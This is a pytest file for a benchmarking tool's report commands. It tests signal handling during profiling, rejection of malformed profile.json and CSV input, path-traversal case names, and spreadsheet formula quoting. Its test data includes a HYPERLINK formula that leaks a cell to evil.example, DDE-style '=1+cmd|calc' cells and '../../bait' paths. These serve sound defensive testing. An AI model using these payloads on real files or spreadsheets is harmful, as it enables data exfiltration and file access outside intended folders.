"""The profile side and the CSV files under attack: `python -m bench.profiler` stopped by Ctrl-C or SIGTERM
never leaves a profile presented as complete; profile.json and the operator CSVs are untrusted input (one
line naming the file, never a traceback, never a path outside the folder); no cell read from a file becomes
a spreadsheet formula; a failed write keeps the earlier validation.md and operators.md."""

from __future__ import annotations

import csv
import json
import math
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core import files
from core.contract import PHASE_FIELDS, PROFILE_FILE, SCHEMA_VERSION, STEP_FIELDS
from core.run import LATEST, is_run, point_latest
from reports import operators
from reports.__main__ import main
from reports.load import Checker, ReportError
from tests.conftest import replaced, snapshot, write_run
from tests.test_adversarial_output import FullDisk, data, temporary_files
from tests.test_validation import crosschecked

REPO = Path(__file__).resolve().parents[1]
FIXTURE = REPO / "tests" / "fixtures" / "benchmark.json"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SETTINGS = settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


# ---- Ctrl-C and SIGTERM, as a user sends them ----------------------------------------------------------------

# Ten cases at batch 1: a few seconds in all, so a signal sent after the first lands while others remain.
MATRIX: tuple[str, ...] = ("--device", "cpu", "--batch-sizes", "1", "--threads", "1", "--loss", "mse,cross_entropy")
MATRIX += ("--optimizers", "sgd,adam,manual,sgd-foreach,adam-foreach")


def start_profile(root: Path) -> subprocess.Popen[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST_")}
    env["PYTHONUNBUFFERED"] = "1"  # each line as it is printed, as on a terminal
    argv = [sys.executable, "-m", "bench.profiler", "--results-root", str(root), *MATRIX]
    return subprocess.Popen(argv, cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def after_first_case(proc: subprocess.Popen[str], root: Path) -> str:
    """Wait for the first 'profiled' line: one case is complete, the others are to come."""
    assert proc.stdout is not None
    seen = ""
    while not seen.endswith("ms per step under the profiler\n"):
        line = proc.stdout.readline()
        assert line, f"ended before profiling a case: {seen}"
        seen += line
    return seen


def once_a_folder_is_claimed(proc: subprocess.Popen[str], root: Path) -> str:
    """Wait for the run folder: the first case is being profiled (or has just been)."""
    deadline = time.monotonic() + 120
    while not [p for p in root.iterdir() if is_run(p) and not p.name.endswith("-old")]:
        assert proc.poll() is None and time.monotonic() < deadline, "no run folder appeared"
        time.sleep(0.005)
    return ""


@pytest.mark.e2e
@pytest.mark.parametrize(
    ("signum", "when"),
    [(signal.SIGINT, after_first_case), (signal.SIGTERM, after_first_case), (signal.SIGTERM, once_a_folder_is_claimed)],
    ids=["SIGINT-after-a-case", "SIGTERM-after-a-case", "SIGTERM-at-once"],
)
def test_an_interrupted_profile_is_never_presented_as_complete(signum: int, when: Any, tmp_path: Path) -> None:
    root = tmp_path / "results"
    old = write_run(root / "20200101T000000Z-old", FIXTURE.read_text(encoding="utf-8"))
    point_latest(old)
    proc = start_profile(root)
    seen = when(proc, root)
    proc.send_signal(signum)
    out, err = proc.communicate(timeout=120)
    out = seen + out
    assert proc.returncode == 128 + signum, err
    assert "Traceback" not in out + err, err
    assert (root / LATEST).resolve() == old.resolve()
    assert temporary_files(root) == [] and not list(root.rglob(".*.partial"))
    new = [p for p in root.iterdir() if is_run(p) and p != old]
    printed = [line.split()[1].rstrip(":") for line in out.splitlines() if line.startswith("profiled ")]
    if not new:  # stopped before a case was complete: nothing saved, and it says so
        assert printed == [] and "; nothing saved" in err
        return
    (run_dir,) = new
    record = json.loads((run_dir / PROFILE_FILE).read_text(encoding="utf-8"))
    name = signal.Signals(signum).name
    assert record["interrupted"] == f"interrupted ({name}) before every case was profiled"
    assert f"netbench: {record['interrupted']}; saved as incomplete" in err
    cases = [entry["case"] for entry in record["profiled"]]
    assert cases == printed and 1 <= len(cases) < 10
    for part in ("traces", "operators"):  # nothing of the case in progress
        assert sorted(p.name for p in (run_dir / part).iterdir()) == sorted(cases)
    for page in ("report.md", "report.html"):
        assert "Incomplete profile run" in (run_dir / page).read_text(encoding="utf-8")


# The signal arrives the moment the run folder exists, before the profiler has it in hand.
CLAIM_INTERRUPTED = """
import os, signal, sys, time
from bench import profiler

claim = profiler.claim_run_dir

def claim_then_terminated(root, base=None):
    folder = claim(root, base)
    os.kill(os.getpid(), signal.SIGTERM)
    time.sleep(0.5)  # an unheld signal is handled here
    return folder

profiler.claim_run_dir = claim_then_terminated
sys.exit(profiler.main(sys.argv[1:]))
"""


@pytest.mark.e2e
def test_an_interrupt_as_the_folder_is_claimed_leaves_none(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST_")}
    env["PYTHONPATH"] = str(REPO)
    argv = [sys.executable, "-c", CLAIM_INTERRUPTED, "--results-root", str(tmp_path), *MATRIX]
    done = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 128 + signal.SIGTERM and "Traceback" not in done.stderr, done.stderr
    assert "nothing saved" in done.stderr and list(tmp_path.iterdir()) == []


# ---- profile.json and the operator CSVs as untrusted input -------------------------------------------------------

CASE = "cpu-b1-train_step-sgd-cross_entropy-t1"
RECORD: dict[str, Any] = {
    "schema": SCHEMA_VERSION,
    "torch": "2.13.0+cpu",
    "schedule": {"wait": 1, "warmup": 1, "active": 3},
    "profiled": [{"case": CASE, "steps": 3, "step_ms": 8.0}],
    "skipped": [{"case": "cuda-b1-train_step-sgd-mse-t1", "reason": "no CUDA device"}],
}
STEP_ROWS = [
    ["aten::convolution_backward", 2, 2558.8, 2574.2, 0],
    ["(Python and framework)", 8, 795.4, 795.4, 0],
    ["aten::mm", 6, 509.1, 510.0, 0],
]
PHASE_ROWS = [
    ["forward", "aten::mkldnn_convolution", 2, 1085.0, 0],
    ["backward", "aten::convolution_backward", 2, 2558.8, 0],
    ["optimizer_step", "(Python and framework)", 2, 190.0, 0],
]


def write_csv(path: Path, fields: tuple[str, ...], rows: list[list[Any]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([fields, *rows])


def profile_folder(folder: Path, record: Any = RECORD, folder_of: str = CASE) -> Path:
    """A profile run folder as bench.profiler writes it (the trace's content is not read by the reports)."""
    (folder / "traces" / folder_of).mkdir(parents=True)
    (folder / "traces" / folder_of / "vm_1.1.pt.trace.json").write_text("{}", encoding="utf-8")
    write_csv(folder / "operators" / folder_of / "step.csv", STEP_FIELDS, STEP_ROWS)
    write_csv(folder / "operators" / folder_of / "phases.csv", PHASE_FIELDS, PHASE_ROWS)
    (folder / PROFILE_FILE).write_text(json.dumps(record), encoding="utf-8")
    return folder


def one_line(err: str) -> str:
    assert "Traceback" not in err and err.count("\n") == 1 and err.startswith("error: "), err
    return err


def test_a_well_formed_profile_folder_is_reported(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = profile_folder(tmp_path / "run")
    assert main(["operators", str(run_dir)]) == 0
    assert f"traces/{CASE}/" in (run_dir / operators.SUMMARY_FILE).read_text(encoding="utf-8")


# name -> (where, value, what the one line says after the file's path)
WRONG: dict[str, tuple[tuple[str | int, ...], Any, str]] = {
    "profiled as a number": (("profiled",), 5, "profiled: a number found, expected a list"),
    "no case profiled": (("profiled",), [], "profiled: [] found, expected at least one profiled case"),
    "case as a number": (("profiled", 0, "case"), 7, "profiled[0].case: 7 (a number) found"),
    "empty case": (("profiled", 0, "case"), "", 'profiled[0].case: "" (a string) found'),
    "steps as text": (("profiled", 0, "steps"), "3", 'profiled[0].steps: "3" (a string) found'),
    "NaN step time": (("profiled", 0, "step_ms"), math.nan, "profiled[0].step_ms: NaN (a number) found"),
    "schema as text": (("schema",), "2", 'schema: "2" (a string) found'),
    "newer schema": (("schema",), SCHEMA_VERSION + 1, "schema: written by a newer netbench"),
    "torch as a list": (("torch",), ["2.13"], 'torch: ["2.13"] (a list) found, expected a string'),
    "schedule as a list": (("schedule",), [1, 1, 3], "schedule: [1, 1, 3] (a list) found, expected an object"),
    "active as true": (("schedule", "active"), True, "schedule.active: true (true) found"),
    "skipped reason as a number": (("skipped", 0, "reason"), 5, "skipped[0].reason: 5 (a number) found"),
    "interrupted as an object": (("interrupted",), {}, "interrupted: {} (an object) found, expected a string"),
}


@pytest.mark.parametrize("name", list(WRONG))
def test_a_hostile_profile_record_is_one_line(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place, value, message = WRONG[name]
    run_dir = profile_folder(tmp_path / "run", replaced(RECORD, place, value))
    before = snapshot(tmp_path)
    assert main(["operators", str(run_dir)]) == 2
    assert f"error: {run_dir / PROFILE_FILE}: {message}" in one_line(capsys.readouterr().err)
    assert snapshot(tmp_path) == before  # nothing written: no plot, no operators.md


@pytest.mark.parametrize("text", ["[]", "null", '"profile"', "{", ""])
def test_a_record_that_is_no_object_is_one_line(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = profile_folder(tmp_path / "run")
    (run_dir / PROFILE_FILE).write_text(text, encoding="utf-8")
    assert main(["operators", str(run_dir)]) == 2
    assert one_line(capsys.readouterr().err).startswith(f"error: {run_dir / PROFILE_FILE}: ")


def test_the_same_case_twice_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    twice = replaced(RECORD, ("profiled",), RECORD["profiled"] * 2)
    assert main(["operators", str(profile_folder(tmp_path / "run", twice))]) == 2
    assert f'profiled[1].case: "{CASE}" is listed twice' in one_line(capsys.readouterr().err)


@pytest.mark.parametrize("case", ["../../bait", "/tmp/bait", "a/../../bait", "..", ".", "x\n# Injected"])
def test_case_names_never_lead_outside(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Summaries planted where the raw name would lead are never read: the name is reduced to one safe
    segment inside operators/, where nothing is, and that is one line."""
    run_dir = profile_folder(tmp_path / "a" / "b" / "run", replaced(RECORD, ("profiled", 0, "case"), case))
    for name in ("step.csv", "phases.csv"):
        bait = (run_dir / "operators" / case / name).resolve()
        if bait.is_relative_to(tmp_path):  # none planted outside the test's folder (/tmp/bait)
            bait.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(run_dir / "operators" / CASE / name, bait)
    assert main(["operators", str(run_dir)]) == 2
    err = one_line(capsys.readouterr().err)
    folder = operators.case_folder(case)
    assert f"{run_dir / 'operators' / folder / 'step.csv'}: missing" in err
    assert len(Path(folder).parts) == 1 and not folder.startswith(".")


def test_case_ids_keep_their_folder() -> None:
    for case in (CASE, "cuda-b256-train_step-adam-fused-mse-t16"):
        assert operators.case_folder(case) == case


@SETTINGS
@given(st.text(max_size=40))
def test_any_case_name_is_one_plain_segment(case: str) -> None:
    folder = operators.case_folder(case)
    assert "/" not in folder and "\\" not in folder and folder not in ("", ".", "..") and folder[0] not in ".-_"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
PLACES: list[tuple[str | int, ...]] = [
    ("schema",),
    ("torch",),
    ("schedule",),
    ("schedule", "wait"),
    ("profiled",),
    ("profiled", 0),
    ("profiled", 0, "case"),
    ("profiled", 0, "steps"),
    ("profiled", 0, "step_ms"),
    ("skipped",),
    ("skipped", 0),
    ("skipped", 0, "case"),
    ("skipped", 0, "reason"),
    ("interrupted",),
]


@SETTINGS
@given(place=st.sampled_from(PLACES), value=json_values)
def test_any_value_in_the_record_reports_or_is_one_line(place: tuple[str | int, ...], value: Any) -> None:
    path = Path("downloads/run/profile.json")
    try:
        record = operators.check_record(Checker(path), replaced(RECORD, place, value))
    except ReportError as err:
        assert str(err).startswith(f"{path}: ") and "\n" not in str(err)
        return
    cases = [entry["case"] for entry in record["profiled"]]
    steps = pd.DataFrame({"case": cases, "operator": "aten::mm", "self_cpu_us": 1.0})
    operators.overview(path.parent, record, steps)  # what the report reads of the record


# name -> (file, column, value, what the one line says after the file's path)
BAD_CELLS = {
    "text figure": ("step.csv", "self_cpu_us", "abc", 'self_cpu_us in row 1: "abc"; expected a finite number'),
    "negative figure": ("step.csv", "calls", "-2", 'calls in row 1: "-2"; expected a finite number of 0 or more'),
    "infinite figure": ("phases.csv", "self_device_us", "inf", 'self_device_us in row 1: "inf"'),
    "unknown phase": ("phases.csv", "phase", "../x", 'phase in row 1: "../x" is not a phase label'),
}


@pytest.mark.parametrize("name", list(BAD_CELLS))
def test_a_hostile_operator_summary_is_one_line(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file, column, value, message = BAD_CELLS[name]
    run_dir = profile_folder(tmp_path / "run")
    path = run_dir / "operators" / CASE / file
    frame = pd.read_csv(path, dtype=str)
    frame.loc[0, column] = value
    frame.to_csv(path, index=False)
    assert main(["operators", str(run_dir)]) == 2
    assert f"error: {path}: {message}" in one_line(capsys.readouterr().err)


@pytest.mark.parametrize("content", ["", "operator,calls\naten::mm,1\n", "operator,calls,self_cpu_us\n", '"\n'])
def test_a_broken_summary_is_one_line(content: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = profile_folder(tmp_path / "run")
    path = run_dir / "operators" / CASE / "step.csv"
    path.write_text(content, encoding="utf-8")
    assert main(["operators", str(run_dir)]) == 2
    assert one_line(capsys.readouterr().err).startswith(f"error: {path}: ")


# ---- CSV cells a spreadsheet would run ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("vm-1", "vm-1"),
        ("a=b", "a=b"),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_starts_like_a_formula_is_quoted(value: Any, cell: Any) -> None:
    assert files.cell(value) == cell


def test_a_frame_keeps_its_numbers_and_quotes_its_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"host": [FORMULA, "-vm", "vm"], "change": [-0.25, 0.5, -1.0], "rounds": [-3, 0, 7]})
    path = files.write_frame(tmp_path / "t.csv", frame)
    assert path.read_text(encoding="utf-8").splitlines()[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-0.25,-3',
        "'-vm,0.5,0",
        "vm,-1.0,7",
    ]
    assert frame["host"][0] == FORMULA  # the caller's frame is left as it was


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_formula_in_a_host_name_stays_text_in_results_csv(tmp_path: Path) -> None:
    run = write_run(tmp_path / "results" / "20260101T000000Z-vm", data(FORMULA))
    assert main(["build", str(run)]) == 0
    rows = cells(run / "results.csv")
    assert {row["machine"].partition(" / ")[0] for row in rows} == {"'" + FORMULA}
    assert not any(v.startswith(files.FORMULA_START) for row in rows for v in row.values() if not is_number(v))
    numbers = pd.read_csv(run / "results.csv")
    assert numbers["batch_size"].dtype.kind == "i" and numbers["median_s"].dtype.kind == "f"


def test_a_formula_in_a_host_name_stays_text_in_compare_csv(tmp_path: Path) -> None:
    a = write_run(tmp_path / "a", data(FORMULA, phases=("forward", "train_step")))
    b = write_run(tmp_path / "b", data("-b", phases=("forward", "train_step"), scale=0.5))
    out = tmp_path / "cmp"
    assert main(["compare", str(a), str(b), "--out", str(out)]) == 0
    rows = cells(out / "compare.csv")
    assert {row["baseline"] for row in rows} == {f"'{FORMULA} / AMD EPYC"}
    assert {row["machine"] for row in rows} >= {"'-b / AMD EPYC"}
    assert not any(v.startswith(files.FORMULA_START) for row in rows for v in row.values() if not is_number(v))
    speedups = pd.read_csv(out / "compare.csv")["speedup"]
    assert speedups.dtype.kind == "f" and (speedups.dropna() > 0).all()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_hostile_case_names_in_validation_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_data = crosschecked({})
    # The case column is named from the dimensions (contract.case_id), so hostile values go there.
    run_data["benchmarks"][0]["extra_info"]["device"] = "=1+cmd|calc"
    run_data["benchmarks"][1]["extra_info"]["device"] = "x|y\n# Injected"
    run = write_run(tmp_path / "run", run_data)
    assert main(["validate", str(run)]) == 0
    assert cells(run / "validation.csv")[0]["case"].startswith("'=1+cmd|calc-b")
    md = (run / "validation.md").read_text(encoding="utf-8")
    assert [line for line in md.splitlines() if line.startswith("#")] == ["# netbench validation", "## Cases"]
    rows = [line for line in md.splitlines() if line.startswith("|")]
    assert len({line.count("|") - line.count("\\|") for line in rows}) == 1  # every row has as many cells


def test_validating_a_loose_file_writes_a_folder_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    (downloads / "run.json").write_text(json.dumps(crosschecked({})), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["validate", str(downloads / "run.json")]) == 0
    assert sorted(p.name for p in downloads.iterdir()) == ["run.json"]
    (folder,) = (tmp_path / "results").iterdir()
    assert {"validation.md", "validation.csv", "benchmark.json"} <= {p.name for p in folder.iterdir()}


# ---- a failed write keeps the earlier file -----------------------------------------------------------------------


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="finds the file being written through /proc")
@pytest.mark.parametrize("target", [".validation.md.", ".validation.csv."])
def test_a_full_disk_keeps_the_earlier_validation(
    target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run = write_run(tmp_path / "run", crosschecked({}))
    assert main(["validate", str(run)]) == 0
    before = snapshot(tmp_path)
    monkeypatch.setattr(files, "os", FullDisk(target))
    assert main(["validate", str(run)]) == 2
    assert "No space left on device" in one_line(capsys.readouterr().err)
    assert snapshot(tmp_path) == before and temporary_files(tmp_path) == []


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="finds the file being written through /proc")
def test_a_full_disk_keeps_the_earlier_operators_md(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run_dir = profile_folder(tmp_path / "run")
    assert main(["operators", str(run_dir)]) == 0
    before = snapshot(tmp_path)
    assert b"Top operators per phase" in (before["run/operators.md"] or b"")
    monkeypatch.setattr(files, "os", FullDisk(".operators.md."))
    assert main(["operators", str(run_dir)]) == 2
    assert "No space left on device" in one_line(capsys.readouterr().err)
    assert snapshot(tmp_path) == before and temporary_files(tmp_path) == []
